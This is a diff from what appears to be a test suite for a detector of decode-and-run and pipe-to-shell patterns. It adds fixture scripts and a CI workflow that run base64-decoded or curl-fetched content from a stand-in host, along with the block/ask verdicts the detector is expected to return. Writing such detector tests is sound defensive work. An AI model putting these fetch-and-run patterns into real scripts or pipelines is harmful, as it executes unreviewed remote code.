@@ -305,6 +305,13 @@ printf 'base64 -d <x | nice -n 5 perl -w\n' >scripts/c.sh
 printf 'base64 -d <x >k; sh k\n' >scripts/d.sh
 printf 'base64 -d <x |\n# what it says\n\nbash\n' >scripts/e.sh
 EOF
+hostile run-later 'decode-and-run=block@scripts/a[.]sh decode-and-run=block@scripts/b[.]sh decode-and-run=block@[.]github/workflows/x[.]yml pipe-to-shell=ask@scripts/c[.]sh pipe-to-shell=ask@scripts/d[.]sh' 'what was decoded or fetched is run by a later line, and by what reads its input' <<'EOF'
+printf 'base64 -d <x >/tmp/k\nsh /tmp/k\n' >scripts/a.sh
+printf 'base64 -d <x | \\\n# what it says\n\nbash\n' >scripts/b.sh
+printf 'curl -so /tmp/k https://get.example.test/x\nsh /tmp/k\n' >scripts/c.sh
+printf 'curl -s https://get.example.test/x | source /dev/stdin\n' >scripts/d.sh
+printf 'jobs:\n  x:\n    steps:\n      - run: |\n          base64 -d data/x >k\n          bash k\n' >.github/workflows/x.yml
+EOF
 hostile run-folded 'decode-and-run=block@[.]github/workflows/a[.]yml decode-and-run=block@[.]github/workflows/b[.]yml' 'a pipeline in a value of YAML over several lines' <<'EOF'
 printf 'jobs:\n  x:\n    steps:\n      - run: >-\n          base64 -d data/x\n          | bash\n' >.github/workflows/a.yml
 printf 'jobs:\n  x:\n    steps:\n      - run: base64 -d data/x\n          | bash\n' >.github/workflows/b.yml
